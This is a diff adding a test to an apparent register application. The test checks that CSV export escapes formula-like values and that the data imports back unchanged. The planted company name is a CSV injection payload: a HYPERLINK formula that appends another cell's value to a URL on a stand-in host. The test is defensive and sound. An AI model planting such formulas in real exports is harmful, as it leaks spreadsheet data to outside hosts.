@@ -123,3 +123,18 @@ def test_a_holiday_added_by_decree_moves_the_running_deadlines_and_says_so(servi
     assert services.cases.case_file(closed)["due"] == closed_due
     services.cases.extend(running, "Many systems")  # computed again: the new calendar stays
     assert services.cases.case_file(running)["due"] == "2026-12-03"
+
+
+def test_the_register_csv_opens_as_text_in_a_spreadsheet_and_reads_back(services, tmp_path):
+    nl = services.register.company("hoffmann-nl").to_dict()
+    planted = '=HYPERLINK("http://x/?"&A2,"x")'
+    services.register.save(nl | {"name": planted})
+    path = tmp_path / "register.csv"
+    services.register.export_file(path)
+    text = path.read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    assert "'+31 30 000 00 00" in text  # a phone number too: a spreadsheet computes "+31 30 …"
+    before = [c.to_dict() for c in services.register.companies()]
+    services.register.import_file(path)
+    assert [c.to_dict() for c in services.register.companies()] == before
+    assert services.register.company("hoffmann-nl").name == planted
